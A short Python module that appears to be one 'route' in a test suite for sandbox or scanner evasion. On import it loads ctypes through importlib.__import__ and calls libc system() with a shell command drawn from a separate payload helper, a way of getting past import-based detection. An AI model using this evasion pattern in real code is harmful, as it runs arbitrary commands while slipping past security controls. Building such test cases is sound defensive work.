"""Route: ``importlib.__import__`` of ``ctypes`` and libc ``system``."""

import importlib

from _payload import shell_command, spec

ROUTE = "importlib_dunder"

ctypes = importlib.__import__("ctypes")
ctypes.CDLL(None).system(shell_command(ROUTE).encode())


def build():
    return spec(ROUTE)
